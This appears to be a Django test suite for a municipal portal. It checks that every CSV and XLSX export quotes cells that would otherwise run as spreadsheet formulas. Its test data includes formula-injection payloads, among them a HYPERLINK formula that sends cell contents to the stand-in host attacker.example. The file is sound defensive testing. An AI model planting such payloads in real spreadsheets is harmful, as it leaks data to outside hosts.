"""Every CSV and XLSX the portal hands out is written by core.plumbing.spreadsheets, and no cell of it runs as a formula.

The exports are found, not listed by hand: URL patterns whose name or route says "export" or whose view's
code speaks of CSV or Excel, and every URL of the permission matrix whose answer (as a role allowed to
open it) is a CSV or XLSX file. Each must have an entry in EXPORTS saying how to fill it with formula
payloads, so a new export fails `test_every_spreadsheet_download_is_known` until its cells are tested.
"""

import ast
import csv
import datetime as dt
import inspect
import io
import re
from collections.abc import Callable
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from core.plumbing.spreadsheets import csv_bytes, xlsx_bytes
from proposals.models import ConsultationForm, ConsultationRecord, Proposal
from tests.factories import (
    ActionFactory,
    AgendaItemFactory,
    CycleFactory,
    DepartmentFactory,
    ForumFactory,
    MeetingFactory,
    MinorityFactory,
    UserFactory,
)
from tests.followup.factories import GoalFactory
from tests.permission_rows import all_rows
from tests.test_permission_matrix import named_patterns

# Even the writer's own tests: every test starts by clearing the "default" cache, which lives in PostgreSQL.
pytestmark = pytest.mark.django_db

# What makes a spreadsheet read a cell as a formula (OWASP, "CSV injection").
FORMULA_CHARACTERS = ("=", "+", "-", "@", "\t", "\r")

# What someone types -> how the cell must begin.
PAYLOADS = {
    '=HYPERLINK("http://attacker.example/?x="&B3,"x")': '\'=HYPERLINK("http://attacker.example/?x="&B3,"x")',
    "+1+1": "'+1+1",
    "-2+3": "'-2+3",
    "@SUM(A1)": "'@SUM(A1)",
    "\t=1": "'\t=1",
    "\r=1": "'\r=1",
    # A control character before a formula is dropped (XML cannot hold it), and the formula is still quoted.
    "\x07=1": "'=1",
}

SPREADSHEET_TYPES = ("text/csv", "spreadsheetml", "ms-excel", "opendocument.spreadsheet")
SPREADSHEET_WORDS = ("csv", "xlsx", "spreadsheet", "excel", "openpyxl")
# Who downloads: the first of these the permission matrix lets open the URL.
PREFERRED_ROLES = [
    "coordinator",
    "administrator",
    "politician",
    "admin_contact",
    "representative",
    "resident",
]
PREFERRED_ROLES += ["other_representative", "anonymous"]


# --- How to fill each export ----------------------------------------------------------------------


def fill_action_register(world, payload: str) -> None:
    """An action whose title, goal, minority, departments and responsible person are all `payload`."""
    action = ActionFactory(
        cycle=CycleFactory(),
        title=payload,
        department=DepartmentFactory(name=payload),
        responsible=UserFactory(full_name=payload),
        is_public=True,
    )
    action.goals.add(GoalFactory(code="", title=payload))
    action.minorities.add(MinorityFactory(name=payload))
    action.collaborating_departments.add(DepartmentFactory(name=payload))


def fill_consultation_log(world, payload: str) -> None:
    """A forum, meeting, agenda item and proposal named `payload`, consulted on with the coordinator's texts
    all `payload`: one record on the agenda item, one on the proposal placed at the meeting."""
    forum = ForumFactory(name=payload)
    meeting = MeetingFactory(forum=forum, title=payload)
    proposal = Proposal.objects.create(
        forum=forum,
        proposer=world["people"]["representative"],
        title=payload,
        description=payload,
        agenda_item=AgendaItemFactory(meeting=meeting, title=payload),
    )
    for target in (
        {"agenda_item": AgendaItemFactory(meeting=meeting, title=payload)},
        {"proposal": proposal},
    ):
        ConsultationRecord.objects.create(
            **target,
            consulted=payload,
            consulted_on=timezone.localdate(),
            form=ConsultationForm.MEETING,
            what_they_said=payload,
            how_it_changed=payload,
            recorded_by=world["people"]["coordinator"],
        )


def fill_duty_register(world, payload: str) -> None:
    """A duty whose title, source, department and contact are `payload`, assessed this year with the
    evidence `payload` by someone named `payload`."""
    from tests.duties.factories import DutyAssessmentFactory, DutyFactory

    duty = DutyFactory(
        title=payload,
        source=payload,
        departments=[DepartmentFactory(name=payload)],
        contact=UserFactory(full_name=payload),
        on_request=True,
    )
    DutyAssessmentFactory(
        duty=duty,
        year=timezone.localdate().year,
        evidence=payload,
        recorded_by=UserFactory(full_name=payload),
        requests_received=4,
        requests_offered=3,
    )


def fill_yearly_follow_up(world, payload: str) -> None:
    """A question of last year's follow-up (in review) worded `payload`, answered with `payload`."""
    from annual.models import Figures, FollowUpAnswer, FollowUpStatus
    from tests.annual.factories import FollowUpQuestionFactory, YearlyFollowUpFactory

    follow_up = YearlyFollowUpFactory(year=timezone.localdate().year - 1, status=FollowUpStatus.IN_REVIEW)
    question = FollowUpQuestionFactory(question_sv=payload, figures=Figures.NONE)
    FollowUpAnswer.objects.create(follow_up=follow_up, question=question, text=payload, language="sv")


FORMULA_SURVEY = "Enkät med formler"


def fill_questionnaire_results(world, payload: str) -> None:
    """A free-text question worded `payload`, answered `payload` by a new member (texts shown from one answer)."""
    from surveys import services
    from surveys.models import Questionnaire, SurveyQuestion

    questionnaire, _created = Questionnaire.objects.get_or_create(
        title=FORMULA_SURVEY,
        defaults={
            "forum": world["forums"]["finnish_dialogue"],
            "deadline": timezone.localdate(),
            "status": "open",
            "min_answers": 1,
        },
    )
    question = SurveyQuestion.objects.create(questionnaire=questionnaire, text=payload, kind="text")
    person = UserFactory()
    services.answer(questionnaire, person, {question.pk: payload})


def _survey_request(fmt: str) -> tuple[dict, dict]:
    from surveys.models import Questionnaire

    return {"pk": Questionnaire.objects.get(title=FORMULA_SURVEY).pk, "fmt": fmt}, {}


@dataclass(frozen=True)
class Export:
    fill: Callable[[dict, str], None]  # (world, payload): rows with the payload in every text column
    request: Callable[[str], tuple[dict, dict]]  # "csv" or "xlsx" -> (URL kwargs, query)
    text_columns: tuple[int, ...]  # the columns `fill` puts the payload in
    number_columns: tuple[int, ...] = ()


EXPORTS = {
    "followup:register_export": Export(
        fill=fill_action_register,
        request=lambda fmt: ({"fmt": fmt}, {"cycle": timezone.localdate().year}),
        # Title, goals, minorities, responsible department, responsible person, collaborating departments.
        text_columns=(1, 3, 4, 5, 6, 7),
        # Number, cycle, progress (%) (after status and overdue).
        number_columns=(0, 2, 12),
    ),
    "duties:register_export": Export(
        fill=fill_duty_register,
        request=lambda fmt: ({"fmt": fmt}, {"year": timezone.localdate().year}),
        # Duty, source, responsible departments, contact, evidence, recorded by.
        text_columns=(1, 3, 5, 6, 9, 13),
        # Year, requests received, requests offered.
        number_columns=(7, 10, 11),
    ),
    "annual:export": Export(
        fill=fill_yearly_follow_up,
        request=lambda fmt: ({"year": timezone.localdate().year - 1, "language": "sv", "fmt": fmt}, {}),
        # Question, answer.
        text_columns=(2, 4),
        # Year.
        number_columns=(0,),
    ),
    "surveys:export": Export(
        fill=fill_questionnaire_results,
        request=_survey_request,
        # Question, answer.
        text_columns=(0, 1),
        # Answers.
        number_columns=(2,),
    ),
    "proposals:consultation_export": Export(
        fill=fill_consultation_log,
        request=lambda fmt: ({}, {"format": fmt, "year": timezone.localdate().year}),
        # Forum, meeting, proposal or agenda item, who was consulted, what they said, how it changed.
        text_columns=(1, 2, 3, 4, 7, 8),
    ),
}


# --- Finding the exports --------------------------------------------------------------------------


def allowed_role(expected: dict[str, int]) -> str | None:
    return next((role for role in PREFERRED_ROLES if expected.get(role) == 200), None)


def view_source(pattern) -> str:
    view = getattr(pattern.callback, "view_class", None) or inspect.unwrap(pattern.callback)
    try:
        return inspect.getsource(view)
    except (OSError, TypeError):
        return ""


def exports_by_name_or_code() -> set[str]:
    """URL names that say "export", and views whose own code mentions CSV or Excel."""
    found = set()
    for name, pattern in named_patterns():
        if name.startswith("admin:"):
            continue
        said = f"{name} {pattern.pattern}".lower()
        source = view_source(pattern).lower()
        if "export" in said or any(word in source for word in SPREADSHEET_WORDS):
            found.add(name)
    return found


def is_spreadsheet(response) -> bool:
    content_type = response.get("Content-Type", "").lower()
    disposition = response.get("Content-Disposition", "").lower()
    return any(kind in content_type for kind in SPREADSHEET_TYPES) or bool(
        re.search(r"\.(csv|xlsx?|ods)\b", disposition)
    )


def test_every_spreadsheet_download_is_known(world, client_for):
    found = exports_by_name_or_code()
    clients: dict = {}
    for name, (kwargs, expected) in all_rows().items():
        role = allowed_role(expected)
        if role is None:
            continue
        if role not in clients:
            clients[role] = client_for(role)
        response = clients[role].get(reverse(name, kwargs=kwargs(world) if callable(kwargs) else kwargs))
        if is_spreadsheet(response):
            found.add(name)
        if response.streaming:
            # Read to the end: the test client then closes the file (response.close() would close the database).
            b"".join(response.streaming_content)
    unknown = sorted(found - EXPORTS.keys())
    assert not unknown, (
        f"Exports nobody has said how to fill with formula payloads (add them to EXPORTS): {unknown}"
    )
    stale = sorted(EXPORTS.keys() - found)
    assert not stale, f"EXPORTS names URLs that are no longer spreadsheet exports: {stale}"


# --- Every export, filled with formulas -----------------------------------------------------------


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith("\ufeff".encode()), "the byte order mark Excel needs for å, ä and ö"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def read_xlsx(content: bytes) -> list[list]:
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet.freeze_panes == "A2"
    cells = [list(row) for row in sheet.iter_rows()]
    formulas = [cell.coordinate for row in cells for cell in row if cell.data_type == "f"]
    assert not formulas, f"formula cells: {formulas}"
    untyped = [
        cell.coordinate
        for row in cells
        for cell in row
        if isinstance(cell.value, str) and cell.data_type != "s"
    ]
    assert not untyped, f"text cells not typed as strings: {untyped}"
    return [[cell.value for cell in row] for row in cells]


def download(url_name: str, fmt: str, client_for) -> list[list]:
    kwargs, query = EXPORTS[url_name].request(fmt)
    role = allowed_role(all_rows()[url_name][1])
    response = client_for(role).get(reverse(url_name, kwargs=kwargs), query)
    assert response.status_code == 200, f"{url_name} as {role}: {response.status_code}"
    assert is_spreadsheet(response)
    # The file is named by the portal, never by what someone typed.
    assert re.fullmatch(
        r'attachment; filename="[A-Za-z0-9._-]+\.(csv|xlsx)"', response["Content-Disposition"]
    )
    return read_xlsx(response.content) if fmt == "xlsx" else read_csv(response.content)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("url_name", sorted(EXPORTS))
def test_no_cell_of_an_export_runs_as_a_formula(url_name, fmt, world, client_for):
    export = EXPORTS[url_name]
    for payload in PAYLOADS:
        export.fill(world, payload)
    header, *rows = download(url_name, fmt, client_for)
    assert len(header) > max(export.text_columns + export.number_columns)
    assert len(rows) >= len(PAYLOADS)
    live = [
        (number, column, value)
        for number, row in enumerate([header, *rows], start=1)
        for column, value in enumerate(row)
        if isinstance(value, str) and value.startswith(FORMULA_CHARACTERS)
    ]
    assert not live, f"cells a spreadsheet would run: {live}"
    for payload, quoted in PAYLOADS.items():
        # openpyxl writes a carriage return as &#13; (with lxml), so it survives the round trip unchanged.
        start = quoted
        assert any(all(str(row[c]).startswith(start) for c in export.text_columns) for row in rows), (
            f"no row carries {payload!r}, quoted, in every text column {export.text_columns}"
        )
    for row in rows:
        for column in export.number_columns:
            value = row[column]
            if fmt == "xlsx":
                assert isinstance(value, int | float) and not isinstance(value, bool), (column, value)
            else:
                assert re.fullmatch(r"-?\d+(\.\d+)?", value), (column, value)


# --- The writer ------------------------------------------------------------------------------------

HEADER = ["Titel", "Antal", "Datum"]
TEXTS = ['=HYPERLINK("http://attacker.example/?x="&B3,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def test_csv_quotes_every_text_that_starts_like_a_formula():
    content = csv_bytes(HEADER, [[text, 1, dt.date(2026, 3, 4)] for text in TEXTS])
    header, *rows = read_csv(content)
    assert header == HEADER
    assert [row[0] for row in rows] == ["'" + text for text in TEXTS]
    assert all(row[1:] == ["1", "2026-03-04"] for row in rows)


def test_csv_keeps_semicolons_numbers_and_empty_cells_as_they_were():
    content = csv_bytes(["a", "b"], [[-5, 2.5], [None, Decimal("-1.25")], ["Mål = 5 %", "e-post@haninge.se"]])
    assert content == "\ufeffa;b\r\n-5;2.5\r\n;-1.25\r\nMål = 5 %;e-post@haninge.se\r\n".encode()


def test_xlsx_types_text_as_strings_and_keeps_numbers_and_dates():
    rows = [[text, -5, dt.date(2026, 3, 4)] for text in TEXTS] + [
        [None, 2.5, dt.datetime(2026, 3, 4, 10, 30)]
    ]
    sheet = load_workbook(
        io.BytesIO(xlsx_bytes("Ett mycket långt bladnamn som blir kortare", HEADER, rows))
    ).active
    assert sheet.title == "Ett mycket långt bladnamn som b"
    assert sheet.freeze_panes == "A2"
    assert [cell.value for cell in sheet[1]] == HEADER
    titles = [sheet.cell(row=n, column=1) for n in range(2, len(TEXTS) + 2)]
    assert [cell.value for cell in titles] == ["'" + text for text in TEXTS]
    assert {cell.data_type for cell in titles} == {"s"}
    assert [(c.value, c.data_type) for c in sheet["B"][1:]] == [(-5, "n")] * len(TEXTS) + [(2.5, "n")]
    assert all(cell.is_date for cell in sheet["C"][1:])
    assert sheet.cell(row=len(TEXTS) + 2, column=1).value is None


def test_control_characters_are_dropped_before_the_formula_check():
    """openpyxl refuses them (a server error), and "\\x07=1" would become the formula "=1" once dropped."""
    rows = [["\x07=1", "a\x00b\x1fc"]]
    assert read_csv(csv_bytes(["a", "b"], rows))[1] == ["'=1", "abc"]
    sheet = load_workbook(io.BytesIO(xlsx_bytes("T", ["a", "b"], rows))).active
    assert [cell.value for cell in sheet[2]] == ["'=1", "abc"]


def test_text_with_a_formula_character_further_in_is_left_as_it_is():
    texts = ["Mål = 5 %", "e-post@haninge.se", "Handen – Brandbergen", " =1"]
    assert [row[0] for row in read_csv(csv_bytes(["a"], [[t] for t in texts]))[1:]] == texts


def test_only_core_spreadsheets_writes_spreadsheets():
    """One writer: no other module of the portal imports a CSV or spreadsheet library."""
    libraries = {"csv", "openpyxl", "xlsxwriter", "xlwt", "pandas", "odf", "tablib"}
    base = Path(settings.BASE_DIR)
    offenders = []
    for package in sorted(p for p in base.iterdir() if (p / "__init__.py").exists() and p.name != "tests"):
        for path in package.rglob("*.py"):
            if path == base / "core" / "plumbing" / "spreadsheets.py" or "migrations" in path.parts:
                continue
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                if isinstance(node, ast.Import):
                    names = [alias.name for alias in node.names]
                elif isinstance(node, ast.ImportFrom) and node.level == 0 and node.module:
                    names = [node.module]
                else:
                    continue
                offenders += [f"{path.relative_to(base)}: {n}" for n in names if n.split(".")[0] in libraries]
    assert not offenders, f"write spreadsheets through core.plumbing.spreadsheets: {offenders}"
